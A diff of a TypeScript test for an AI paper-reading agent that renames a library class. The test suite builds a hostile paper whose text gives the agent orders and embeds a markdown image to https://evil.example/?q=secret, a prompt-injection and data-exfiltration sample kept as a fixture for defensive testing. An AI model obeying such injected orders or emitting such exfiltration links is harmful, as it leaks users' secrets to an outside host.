@@ -4,7 +4,7 @@ import { callTool } from '../../../../src/core/agent/callTool';
 import { UNTRUSTED } from '../../../../src/core/agent/answers';
 import { paperMarkdown } from '../../../../src/core/agent/paperMarkdown';
 import { PARTS, type ReadingToolName } from '../../../../src/core/agent/tools';
-import { LibraryReader } from '../../../../src/library/libraryReader';
+import { ReadOnlyLibrary } from '../../../../src/library/readOnlyLibrary';
 import { PaperStore } from '../../../../src/library/store/paperStore';
 import { KeptTextStore } from '../../../../src/library/store/keptTextStore';
 import { hubText } from '../../../support/hub-content';
@@ -26,7 +26,7 @@ const HOSTILE = madePaper(ID, {
 });
 
 describe('texts of papers that give orders', () => {
-  let library: LibraryReader;
+  let library: ReadOnlyLibrary;
 
   before(async () => {
     const storage = scratchFolder('untrusted');
@@ -34,7 +34,7 @@ describe('texts of papers that give orders', () => {
     const answer = hubText(ID, 'Orders', `${ORDER}\n\n![x](https://evil.example/?q=secret)`);
     const kept = { id: ID, fetched: '2026-03-05T15:00:00.000Z', host: 'hub.example', answer };
     await new KeptTextStore(path.join(storage, 'texts'), silentLog).write(kept, () => false);
-    library = new LibraryReader({ storage, program: process.cwd(), version: '0', log: silentLog });
+    library = new ReadOnlyLibrary({ storage, program: process.cwd(), version: '0', log: silentLog });
     await library.ready();
   });
   after(() => library.dispose());
